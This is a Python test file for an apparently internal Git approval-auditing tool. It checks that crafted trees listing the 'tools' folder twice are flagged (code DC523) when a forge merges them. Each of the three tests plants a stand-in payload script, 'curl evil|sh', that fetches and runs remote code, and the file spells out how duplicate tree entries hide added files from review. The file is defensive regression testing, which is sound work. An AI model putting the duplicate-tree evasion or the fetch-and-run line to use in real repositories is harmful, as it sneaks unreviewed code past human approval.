"""Round 31, DC523 after session 21 (``_Deriver.held_twice``, the ``misread`` probe): crafted
trees merged the way a forge merges (`approve` refuses them as repeated paths). Right: the
approval does not count (DC523, `trail --strict` fails)."""

from __future__ import annotations

from rt31_helpers import (
    FOLDER,
    blob,
    branch_on_tree,
    codes_of,
    entries_of,
    folder_approved,
    forge_merge,
    git_out,
    raw_tree,
    trail_strict,
)


def _root_with_tools_twice(s, second: str) -> str:
    """main's root tree with ``tools`` listed a second time (``second``), after main's own."""
    top = entries_of(s, git_out(s, "rev-parse", "main^{tree}").strip())
    at = next(i for i, e in enumerate(top) if e[2] == b"tools")
    return raw_tree(s, [*top[: at + 1], ("40000", second, b"tools"), *top[at + 1 :]])


def test_a_folder_listed_again_as_a_file_one_level_down_does_not_count(tmp_path):
    """Round 30 hole 1 one level down. main holds the approved folder tools/release/. The
    crafted root lists `tools` twice: main's folder first (unchanged), then a folder holding
    only a FILE `release`. git's diff is one line, `A tools/release`. ``held_twice`` lists
    `commit:tools`, which is the first `tools` (no repeat in it). A forge merges it.
    Right: DC523 (history now takes tools/release for an approved file, `main:tools/release`
    is main's folder, a checkout writes both or fails)."""
    s = folder_approved(tmp_path)
    evil = blob(s, b"#!/bin/sh\ncurl evil|sh\n")
    second = raw_tree(s, [("100755", evil, b"release")])
    branch_on_tree(s, "cr-up", _root_with_tools_twice(s, second))
    raw = git_out(s, "diff-tree", "-r", "--raw", "-M", "main", "cr-up").strip()
    assert raw.endswith(f"A\t{FOLDER}") and raw.count("\n") == 0, raw
    sha = forge_merge(s, "cr-up", approver="chenmy")
    kind = git_out(s, "cat-file", "-t", f"main:{FOLDER}").strip()
    code, out = trail_strict(s)
    assert "DC523" in codes_of(s.history(), sha) and code != 0, (
        f"root lists tools twice, the second with tools/release as a file; main:{FOLDER} is a "
        f"{kind}; the trail says:\n{out}"
    )


def test_a_new_controlled_file_only_in_a_second_copy_of_its_folder_does_not_count(tmp_path):
    """The crafted root lists `tools` twice: main's folder first, then a folder holding only a
    NEW controlled script `deploy.sh`. git's diff: `A tools/deploy.sh`. main never held it, so
    ``held_twice`` finds nothing; ``misread`` asks documents only. `main:tools/deploy.sh` is
    missing (Git's lookup enters the first `tools` only); a checkout writes it. Right: DC523."""
    s = folder_approved(tmp_path)
    evil = blob(s, b"#!/bin/sh\ncurl evil|sh\n")
    second = raw_tree(s, [("100755", evil, b"deploy.sh")])
    branch_on_tree(s, "cr-new", _root_with_tools_twice(s, second))
    raw = git_out(s, "diff-tree", "-r", "--raw", "-M", "main", "cr-new").strip()
    assert raw.endswith("A\ttools/deploy.sh") and raw.count("\n") == 0, raw
    sha = forge_merge(s, "cr-new", approver="chenmy")
    kind = git_out(s, "cat-file", "-t", "main:tools/deploy.sh").strip() or "missing"
    code, out = trail_strict(s)
    assert "DC523" in codes_of(s.history(), sha) and code != 0, (
        f"root lists tools twice, the second holding a new controlled file; "
        f"main:tools/deploy.sh is {kind}; the trail says:\n{out}"
    )


def test_a_changed_script_in_a_second_copy_of_its_folder_does_not_count(tmp_path):
    """Guard (holds): the same doubled `tools`, the second copy holding tools/release/main.sh
    rewritten. git's diff: `A tools/release/main.sh`; main holds that file, so
    ``held_twice`` finds it: DC523."""
    s = folder_approved(tmp_path)
    evil = blob(s, b"#!/bin/sh\ncurl evil|sh\n")
    release = raw_tree(s, [("100755", evil, b"main.sh")])
    second = raw_tree(s, [("40000", release, b"release")])
    branch_on_tree(s, "cr-main", _root_with_tools_twice(s, second))
    raw = git_out(s, "diff-tree", "-r", "--raw", "-M", "main", "cr-main").strip()
    assert raw.endswith(f"A\t{FOLDER}/main.sh") and raw.count("\n") == 0, raw
    sha = forge_merge(s, "cr-main", approver="chenmy")
    code, out = trail_strict(s)
    assert "DC523" in codes_of(s.history(), sha) and code != 0, out
